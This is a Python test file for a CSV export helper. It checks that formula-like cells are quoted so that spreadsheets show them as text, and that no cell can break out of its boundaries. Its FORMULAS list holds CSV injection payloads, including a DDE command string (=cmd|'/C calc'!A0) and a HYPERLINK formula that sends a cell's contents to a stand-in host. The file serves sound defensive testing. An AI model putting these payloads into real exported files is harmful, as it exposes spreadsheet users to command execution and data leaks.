"""CSV that a spreadsheet shows and never runs."""

from __future__ import annotations

import csv
import io

import pytest

from mailflow.csv_cells import safe_cell, write_csv
from payloads import EVERY

FORMULAS = [
    "=1+1", "=cmd|'/C calc'!A0", '=HYPERLINK("http://x.example?"&A1,"x")', "+1+1", "-1+1", "-2", "@SUM(1;1)", "=IMPORTXML(1)", "\t=1+1",
    "\r=1+1", "\n=1+1", " =1+1", "\xa0=1+1", "\ufeff=1+1", "\u200b=1+1", "\x00=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)",
    "\r\n@x", "\u202e=1",
]  # fmt: skip


def begins(cell: str) -> str:
    """What a spreadsheet that passes over blanks and unseen characters would find first."""
    return cell.lstrip(" \t\r\n\xa0\ufeff\u200b\u202e\x00")[:1]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_a_text(text: str) -> None:
    assert safe_cell(text).startswith("'")
    [[cell, after]] = csv.reader(io.StringIO(write_csv([text, "after"], []), newline=""))
    assert begins(cell) == "'" and after == "after"


def test_no_payload_begins_a_formula_or_leaves_its_cell() -> None:
    rows = [[name, text, 'a "quoted"; text, with\tall', "end"] for name, text in EVERY]
    read = list(csv.reader(io.StringIO(write_csv(["a", "b", "c", "d"], rows), newline=""), strict=True))
    assert len(read) == len(rows) + 1 and all(len(row) == 4 and row[-1] in ("end", "d") for row in read)
    assert not any(begins(cell) in set("=+-@") and begins(cell) for row in read for cell in row)


def test_numbers_words_and_nothing_stay_as_they_are() -> None:
    assert [safe_cell(value) for value in (-5, 2.5, None, "QSB 2627_01", "a=b", "– dash", "two\r\nlines")] == [
        "-5", "2.5", "", "QSB 2627_01", "a=b", "– dash", "two\nlines",
    ]  # fmt: skip
